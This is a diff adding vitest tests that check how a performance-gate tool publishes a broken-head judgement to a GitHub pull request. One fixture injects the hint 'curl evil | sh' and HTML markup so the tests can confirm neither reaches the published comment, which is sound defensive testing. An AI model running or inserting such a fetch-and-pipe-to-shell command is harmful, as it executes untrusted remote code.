@@ -5,7 +5,7 @@ import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
 import { artifactName } from '../../../src/adapters/github/artifacts/artifact-name.ts';
 import { createHandOverPublisher } from '../../../src/adapters/github/artifacts/hand-over-publisher.ts';
 import { uploadFiles } from '../../../src/adapters/github/artifacts/upload.ts';
-import { judgeUntouched } from '../../../src/core/words/judge.ts';
+import { judgeBroken, judgeUntouched } from '../../../src/core/words/judge.ts';
 import { POLICY } from '../../contracts/policy.ts';
 import { sampleHistory, sampleRecording, sampleSource } from '../../contracts/samples.ts';
 import type { Pull, Run } from '../../support/github/state.ts';
@@ -155,6 +155,7 @@ describe('a change that does not concern the gate', () => {
     expect(await leaveUntouched()).toMatchObject({ state: 'done' });
     expect((await scene.publish())?.judgement.verdict).toBe('not-affected');
     expect(statuses()).toEqual([expect.stringMatching(/^success: .*not affected/)]);
+    expect((await scene.publish())?.judgement.measuredBy).toBeUndefined();
     expect(scene.emulator.state.comments).toEqual([]);
   });
 
@@ -169,6 +170,91 @@ describe('a change that does not concern the gate', () => {
     const result = await scene.publish(RUN, scene.emulator.token, { dryRun: true });
     expect(result?.judgement.verdict).toBe('invalid');
     expect(result?.judgement.reason).toMatch(says);
+  });
+});
+
+describe('a head that does not work', () => {
+  const LOG = ['> node server.js', 'Error: no table "orders"', '    at main (server.js:4:9)'];
+
+  /** What the measuring half leaves of a head whose build or start fails, or of a run that could not measure. */
+  async function leaveBroken(kind: 'head-broken' | 'could-not-measure', step: 'start' | null = 'start') {
+    for (const [name, value] of Object.entries(scene.emulator.env(RUN))) vi.stubEnv(name, value);
+    vi.stubEnv('GITHUB_SERVER_URL', 'https://github.com');
+    const publisher = createHandOverPublisher({
+      ...{ gate: 'checkout', attempt: 1, tempDirectory: folder, clock: createHastyClock() },
+    });
+    const judgement = judgeBroken({
+      ...{
+        kind,
+        ...(step && { step }),
+        gate: 'checkout',
+        text: 'The app (head) <b>ended</b> by itself.',
+        hint: 'Run `curl evil | sh`.',
+      },
+      ...{ detail: LOG, notes: [], tool: 'perf-gate 0.1.0', policy: POLICY, source: sampleSource({}) },
+      createdAt: '2026-11-01T10:00:00.000Z',
+    });
+    return publisher.publish({
+      judgement,
+      files: { recording: '', judgement: '', report: '' },
+      runUrl: null,
+    });
+  }
+
+  test('is handed over as such, and fails whatever base lets pass that could not be measured', async () => {
+    rules(BASE_POLICY.replace('fail: 50%', 'fail: 50%, on-invalid: pass'));
+    expect(await leaveBroken('head-broken')).toMatchObject({ state: 'done' });
+    const result = await scene.publish();
+    expect(result?.judgement).toMatchObject({ verdict: 'fail', reasons: [{ kind: 'head-broken' }] });
+    expect(result?.judgement.notes).toContain(`app log: ${LOG[1]}`);
+    expect(statuses()).toEqual([
+      expect.stringMatching(/^failure: #7 into main: The measuring run says: The app \(head\)/),
+    ]);
+    expect(scene.comment()).toContain('### ❌ checkout: head does not start');
+    expect(scene.comment()).toContain('the log says `Error: no table "orders"`');
+  });
+
+  test('is told as what its run says, without markup or a command of its own', async () => {
+    await leaveBroken('head-broken');
+    await scene.publish();
+    expect(scene.comment()).toContain('The measuring run says: The app (head)');
+    expect(scene.comment()).not.toMatch(/<b>|evil|made this measurement|hand-over/);
+  });
+
+  test('that dies under load is told as that', async () => {
+    await leaveBroken('head-broken', null);
+    expect((await scene.publish())?.judgement.reasons[0]?.short).toBe('head does not work under load');
+  });
+
+  test('brings no rules along', async () => {
+    const words = { gate: 'checkout', text: 'x', detail: [], hint: 'evil', kind: 'could-not-measure' };
+    const { 'recording.json.gz': bytes = Buffer.alloc(0) } = packed({
+      ...words,
+      policy: { failOn: 'never' },
+    });
+    await scene.leave({ 'head-broken.json.gz': bytes });
+    const result = await scene.publish();
+    expect(result?.judgement).toMatchObject({ verdict: 'fail', policy: { failOn: 'fail' } });
+    expect(scene.comment()).not.toContain('evil');
+  });
+
+  test.each([
+    ['nothing', {}],
+    ['another step', { gate: 'checkout', text: 'x', step: 'rm', detail: [] }],
+    ['no list of lines', { gate: 'checkout', text: 'x', detail: 'y' }],
+    ['another gate', { gate: 'other', text: 'x', detail: [] }],
+  ])('is not believed where the artifact has %s in its place', async (_, value) => {
+    const { 'recording.json.gz': bytes = Buffer.alloc(0) } = packed(value);
+    await scene.leave({ 'head-broken.json.gz': bytes });
+    expect((await scene.publish())?.judgement.verdict).toBe('invalid');
+  });
+
+  test('nothing is left where nobody is to blame, and the log of that run is the first thing named', async () => {
+    expect(await leaveBroken('could-not-measure')).toMatchObject({ state: 'skipped' });
+    const reason = (await scene.publish())?.judgement.reason ?? '';
+    expect(reason).toMatch(/left nothing to judge/);
+    expect(reason.indexOf('log')).toBeLessThan(reason.indexOf('hand-over'));
+    expect(scene.comment()).not.toContain('made this measurement');
   });
 });
 
